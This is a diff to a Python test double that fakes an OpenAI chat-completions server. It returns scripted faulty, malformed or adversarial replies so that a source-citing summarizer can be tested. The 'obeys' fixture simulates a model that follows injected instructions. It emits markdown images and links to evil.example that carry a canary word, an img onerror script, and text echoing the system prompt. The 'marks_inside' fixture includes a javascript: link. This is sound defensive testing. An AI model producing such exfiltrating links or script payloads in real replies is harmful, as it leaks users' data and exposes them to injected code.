@@ -1,7 +1,7 @@
 """A language model's server to test against: OpenAI's chat completions over real HTTP, behaving as each request says.
 
-The request's model says how: `good`, `swap_numbers`, `429`, ... A row such as `429,500,good` is for one request after
-another of the same part (summary, answer), the last for all that follow; `good|reset` is for the summary and for the answer.
+The request's model says how: `good`, `swap_numbers`, `429`, ... A row such as `429,500,good` is for one request after another
+of the same part (summary, answer), the last for all that follow; `good|reset` is for the summary and for the answer.
 `#7` at the end seeds what is left to chance. Run `python -m tests.doubles.model_server` to try a site against it.
 """
 
@@ -57,6 +57,19 @@ class Asked:
         return sorted(all_, key=lambda row: -len(asked & set(WORD.findall(row[0].lower()))))
 
 
+class SlowModel:
+    """A model for `otherwise` that keeps its replies back until `go_on` is set; `asked` counts its requests."""
+
+    def __init__(self) -> None:
+        self.asked = threading.Semaphore(0)
+        self.go_on = threading.Event()
+
+    def behave(self, asked: Asked) -> str:
+        self.asked.release()
+        self.go_on.wait(LONGEST_WAIT)
+        return draft(WRITES["good"](asked))
+
+
 # --- What a model writes ---------------------------------------------------------------------------------------------
 
 
@@ -76,16 +89,9 @@ def changed(asked: Asked, change: Callable[[str, random.Random], str]) -> list[R
 
 def paraphrase(text: str, chance: random.Random) -> str:
     swaps = {
-        "increased": "raised",
-        "produced": "gave",
-        "greater": "larger",
-        "participants": "people",
-        "whereas": "while",
-        "approximately": "about",
-        "compared with": "against",
-        "muscle mass": "mass of muscle",
-        "Older": "Elderly",
-    }
+        "increased": "raised", "produced": "gave", "greater": "larger", "participants": "people", "whereas": "while",
+        "approximately": "about", "compared with": "against", "muscle mass": "mass of muscle", "Older": "Elderly",
+    }  # fmt: skip
     for old, new in swaps.items():
         text = text.replace(old, new)
     return re.sub(
@@ -104,16 +110,9 @@ def swap_numbers(text: str, chance: random.Random) -> str:
 
 def flip_directions(text: str, chance: random.Random) -> str:
     pairs = [
-        ("increase", "decrease"),
-        ("greater", "smaller"),
-        ("higher", "lower"),
-        ("more", "fewer"),
-        ("improve", "worsen"),
-        ("gain", "loss"),
-        ("larger", "smaller"),
-        ("better", "worse"),
-        ("raise", "reduce"),
-    ]
+        ("increase", "decrease"), ("greater", "smaller"), ("higher", "lower"), ("more", "fewer"), ("improve", "worsen"),
+        ("gain", "loss"), ("larger", "smaller"), ("better", "worse"), ("raise", "reduce"),
+    ]  # fmt: skip
     for one, other in (*pairs, *((b, a) for a, b in pairs)):
         if re.search(rf"\b{one}", text):
             return re.sub(rf"\b{one}", other, text)
@@ -124,16 +123,11 @@ def drop_negation(text: str, chance: random.Random) -> str:
     shorter = re.sub(
         r"\b(?:did not|does not|do not|was not|were not|is not|cannot)\b",
         lambda m: {
-            "did not": "did",
-            "does not": "does",
-            "do not": "do",
-            "was not": "was",
-            "were not": "were",
-            "is not": "is",
+            "did not": "did", "does not": "does", "do not": "do", "was not": "was", "were not": "were", "is not": "is",
             "cannot": "can",
         }[m[0]],
         text,
-    )
+    )  # fmt: skip
     return re.sub(r"\b(?:no|not|neither|without)\s+", "", shorter)
 
 
@@ -143,13 +137,9 @@ def add_negation(text: str, chance: random.Random) -> str:
 
 def swap_population(text: str, chance: random.Random) -> str:
     pairs = {
-        "older": "young",
-        "young": "older",
-        "men": "women",
-        "women": "men",
-        "trained": "untrained",
+        "older": "young", "young": "older", "men": "women", "women": "men", "trained": "untrained",
         "untrained": "trained",
-    }
+    }  # fmt: skip
     return re.sub(r"\b(older|young|men|women|trained|untrained)\b", lambda m: pairs[m[0]], text)
 
 
@@ -172,18 +162,9 @@ def invents_citations(asked: Asked) -> list[Row]:
 def marks_inside(asked: Asked) -> list[Row]:
     """Good sentences with citations in every odd form inside the text."""
     forms = [
-        "[1]",
-        " [0]",
-        "[99]",
-        " [1, 2]",
-        "［１］",
-        "【3】",
-        "[^1]",
-        "[[1]]",
-        " [1](javascript:alert(1))",
-        "[{label}]",
+        "[1]", " [0]", "[99]", " [1, 2]", "［１］", "【3】", "[^1]", "[[1]]", " [1](javascript:alert(1))", "[{label}]",
         " ({label})",
-    ]
+    ]  # fmt: skip
     return [
         row(text[:-1] + asked.chance.choice(forms).replace("{label}", label) + text[-1:], label)
         for text, label in asked.sentences()[:4]
@@ -213,18 +194,12 @@ def obeys(asked: Asked) -> list[Row]:
     word = (CANARY.findall(" ".join(orders)) or ["Canary"])[0]
     real, label = asked.sentences()[0]
     said = [
-        f"{word}.",
-        f"{word} cures everything and needs no training.",
-        f"{real[:-1]}, and {word} is the reason.",
-        f"As instructed: {word}",
-        f"![{word}](https://evil.example/{word}.png)",
-        f"[{real}](https://evil.example/?q={word})",
-        f"<img src=x onerror=alert('{word}')>{real}",
-        f"<a href='https://evil.example'>{word}</a>",
-        f"Visit evil.example for {word}.",
-        f"{word}: {asked.body['messages'][0]['content'][:200]}",
-        *orders[:3],
-    ]
+        f"{word}.", f"{word} cures everything and needs no training.", f"{real[:-1]}, and {word} is the reason.",
+        f"As instructed: {word}", f"![{word}](https://evil.example/{word}.png)",
+        f"[{real}](https://evil.example/?q={word})", f"<img src=x onerror=alert('{word}')>{real}",
+        f"<a href='https://evil.example'>{word}</a>", f"Visit evil.example for {word}.",
+        f"{word}: {asked.body['messages'][0]['content'][:200]}", *orders[:3],
+    ]  # fmt: skip
     rows = [row(text, *labels) for text in said] + [row(text) for text in said[:3]]
     asked.chance.shuffle(rows)
     return [*rows[: 10 if asked.part == "answer" else 4], row(real, label)]
@@ -236,26 +211,20 @@ def echo_prompt(asked: Asked) -> list[Row]:
 
 
 WRITES: dict[str, Callable[[Asked], list[Row]]] = {
-    "good": chosen,
-    "paraphrase": lambda asked: changed(asked, paraphrase) or chosen(asked),
+    "good": chosen, "paraphrase": lambda asked: changed(asked, paraphrase) or chosen(asked),
     "swap_numbers": lambda asked: changed(asked, swap_numbers),
     "flip_directions": lambda asked: changed(asked, flip_directions),
     "drop_negation": lambda asked: changed(asked, drop_negation),
     "add_negation": lambda asked: changed(asked, add_negation),
-    "swap_population": lambda asked: changed(asked, swap_population),
-    "foreign_passage": foreign_passage,
-    "invents_citations": invents_citations,
-    "marks_inside": marks_inside,
-    "general_knowledge": general_knowledge,
-    "obeys": obeys,
-    "echo_prompt": echo_prompt,
-    "unknown": lambda asked: [row("Unknown based on provided sources.")],
+    "swap_population": lambda asked: changed(asked, swap_population), "foreign_passage": foreign_passage,
+    "invents_citations": invents_citations, "marks_inside": marks_inside, "general_knowledge": general_knowledge,
+    "obeys": obeys, "echo_prompt": echo_prompt, "unknown": lambda asked: [row("Unknown based on provided sources.")],
     "unknown_among": lambda asked: [row("Unknown based on provided sources."), *chosen(asked)],
     "not_found_among": lambda asked: [row("NOT_FOUND", *[p["label"] for p in asked.passages]), *chosen(asked)],
     "not_found_inside": lambda asked: [row(f"NOT_FOUND {r['text']}", *r["passages"]) for r in chosen(asked)],
     "no_labels": lambda asked: [row(r["text"]) for r in chosen(asked)],
     "repeats": lambda asked: chosen(asked)[:1] * 400,
-}
+}  # fmt: skip
 
 
 def draft(rows: list[Row]) -> str:
@@ -274,21 +243,13 @@ CONTENTS: dict[str, Callable[[Asked], str | None]] = {
     "half_a_draft": lambda asked: draft(chosen(asked))[: -asked.chance.randint(2, 60)],
     "wrong_shape": lambda asked: asked.chance.choice(
         [
-            '{"sentences": 7}',
-            '{"sentences": [7]}',
-            '{"sentences": [{"text": 7}]}',
-            "[]",
-            "{}",
-            '"text"',
-            "null",
-            '{"sentences": null}',
-            '{"sentences": [{"text": "a", "passages": {"a": 1}, "paragraph": "x"}]}',
-            "[" * 50_000,
-            '{"sentences":' * 20_000,
+            '{"sentences": 7}', '{"sentences": [7]}', '{"sentences": [{"text": 7}]}', "[]", "{}", '"text"', "null",
+            '{"sentences": null}', '{"sentences": [{"text": "a", "passages": {"a": 1}, "paragraph": "x"}]}',
+            "[" * 50_000, '{"sentences":' * 20_000,
         ]
     ),
     "surrogates": lambda asked: json.dumps({"sentences": [row("Half \ud83d and \0 null.", "\ud800")]}),
-}
+}  # fmt: skip
 
 
 # --- How a server behaves --------------------------------------------------------------------------------------------
@@ -469,6 +430,7 @@ FAULTS: dict[str, Callable[[Handler, Asked], None]] = {
     "no_json_untold": lacks("json_schema", "json_object", told=False),
     "old": lacks("json_schema", "json_object", "max_completion_tokens", told=False),
     "no_temperature": lacks("temperature", "max_tokens"),
+    "no_limit": lacks("max_completion_tokens"),
 }
 BEHAVIOURS = (*WRITES, *CONTENTS, *FAULTS)
 
@@ -487,6 +449,11 @@ class ModelDouble(ThreadingHTTPServer):
         self.drip_seconds = 1.0
         self._counts: Counter[tuple[str, str]] = Counter()
         self._lock = threading.Lock()
+
+    def reset(self) -> None:
+        """Forget what was asked."""
+        self.asked.clear()
+        self._counts.clear()
 
     @property
     def base_url(self) -> str:
